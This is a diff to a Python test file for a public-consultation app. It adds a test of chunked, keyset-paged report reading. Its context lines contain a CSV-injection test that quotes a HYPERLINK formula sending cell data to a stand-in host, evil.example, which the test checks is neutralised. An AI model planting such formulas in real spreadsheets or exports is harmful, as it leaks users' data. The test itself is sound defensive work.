@@ -357,3 +357,29 @@ def test_the_csv_writes_formulas_typed_by_participants_as_plain_text(client, clo
     assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")' in cells
     assert "'@SUM(A1:A9)" in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_the_report_reads_every_contribution_once_in_finished_chunks_even_with_ties(monkeypatch):
+    """The rows come CHUNK at a time by keyset (each chunk a finished query, no cursor left open while the report
+    is laid out); contributions sharing a second straddle the chunks and still come once each, oldest first, and
+    one arriving while the report is read is not in it."""
+    monkeypatch.setattr(report, "CHUNK", 3)
+    consultation = ConsultationFactory()
+    contributions = [ContributionFactory(consultation=consultation) for _ in range(7)]
+    same_second = timezone.now() - datetime.timedelta(hours=1)
+    for index, contribution in enumerate(contributions):
+        at = same_second if 1 <= index <= 5 else same_second + datetime.timedelta(minutes=index)
+        type(contribution).objects.filter(pk=contribution.pk).update(created_at=at)
+    expected = sorted(type(contributions[0]).objects.filter(consultation=consultation).values_list("created_at", "pk"))
+
+    rows = report.report_rows(consultation)
+    with CaptureQueriesContext(connection) as first_chunk:
+        read = [next(rows)["pk"] for _ in range(3)]
+    late = ContributionFactory(consultation=consultation)
+    with CaptureQueriesContext(connection) as rest:
+        read += [row["pk"] for row in rows]
+
+    assert read == [pk for _created_at, pk in expected]
+    assert late.pk not in read
+    assert len(first_chunk) == 2  # the last id when the reading starts, then the first chunk
+    assert len(rest) == 2  # two more chunks of at most three: 3 + 3 + 1
